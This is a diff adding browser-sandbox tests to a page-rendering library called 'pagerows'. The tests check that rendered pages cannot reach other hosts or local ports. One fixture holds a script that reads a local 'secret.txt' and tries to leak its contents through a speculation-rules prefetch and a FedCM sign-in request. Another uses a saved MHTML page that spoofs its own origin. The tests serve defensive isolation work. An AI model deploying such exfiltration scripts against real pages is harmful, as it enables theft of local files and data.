@@ -123,6 +123,63 @@ def test_workers_and_sockets_reach_nobody(browser):
         assert asked == []
 
 
+SPECULATION = """<p>here<script>
+  const ask = new XMLHttpRequest(); ask.open('GET', 'secret.txt', false);
+  try { ask.send() } catch {}
+  const rules = document.createElement('script'); rules.type = 'speculationrules';
+  rules.textContent = JSON.stringify({prefetch: [{source: 'list', eagerness: 'immediate',
+    urls: ['%s/leak?' + encodeURIComponent(ask.responseText)]}]});
+  document.head.append(rules);
+  navigator.credentials?.get?.({identity: {providers: [{configURL: '%s/fedcm.json', clientId: 'x'}]}}).catch(() => 0);
+</script>"""
+
+
+def test_requests_that_the_browser_makes_by_itself_reach_nobody(tmp_path, browser):
+    """Prefetches and sign-in dialogs do not show up among the requests that can be paused."""
+    (tmp_path / "secret.txt").write_text("secret")
+    with server({}) as (other, asked):
+        (tmp_path / "page.html").write_text(SPECULATION % (other, other))
+        pagerows.render(tmp_path / "page.html", javascript=True, settle=1.0, browser=browser)
+        assert asked == []
+
+
+def test_a_saved_page_does_not_choose_its_own_origin(tmp_path, browser):
+    with server({"/frame": ("text/html", "<p>framed")}) as (other, asked):
+        (tmp_path / "page.mhtml").write_text(
+            "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n"
+            f"Content-Location: {other}/page\n\n<p>here</p><img src=/picture><iframe src=/frame></iframe>"
+            f"<script>fetch('/post', {{method: 'POST'}})</script>\n--b--\n"
+        )
+        page = pagerows.render(tmp_path / "page.mhtml", javascript=True, settle=0.5, browser=browser)
+        assert (texts(page), asked) == ("here", [])
+        assert page.url == f"{other}/page"
+
+
+def test_any_host_means_any_public_one(browser):
+    """A page on the web, or on one local port, must not read what another local port serves."""
+    with server({}) as (own, _), server({"/f": ("text/html", "<p>secret")}) as (other, asked):
+        html = f"<p>here</p><iframe src='{other}/f'></iframe><img src='{other}/f'>"
+        page = pagerows.render(html, url=f"{own}/list", allow=["*"], browser=browser)
+        assert (texts(page), asked) == ("here", [])
+
+
+def test_with_public_addresses_only_not_even_the_own_origin_is_asked(browser):
+    with server({"/p.svg": ("image/svg+xml", PIXEL)}) as (own, asked):
+        pagerows.render("<img src=/p.svg>", url=f"{own}/list", allow=[own], public_only=True, browser=browser)
+        assert asked == []
+
+
+def test_a_stopped_browser_does_not_hold_the_caller_beyond_its_time():
+    with Browser() as own:
+        pagerows.render("<p>a", browser=own)
+        stopped = own._connection.process
+        os.killpg(stopped, signal.SIGSTOP)
+        with pytest.raises(pagerows.RenderError):
+            pagerows.render("<p>" + "x" * 30_000_000, timeout=2, browser=own)
+        assert texts(pagerows.render("<p>b", browser=own)) == "b"
+        assert own._connection.process != stopped
+
+
 def test_dialogs_are_refused_and_do_not_hold_the_page_up(browser):
     html = """<p>a</p><script>alert(1); document.querySelector('p').textContent = `${confirm('?')} ${prompt('?')}`;
       onbeforeunload = event => { event.preventDefault(); return 'stay?' }; location = '/other'</script>"""
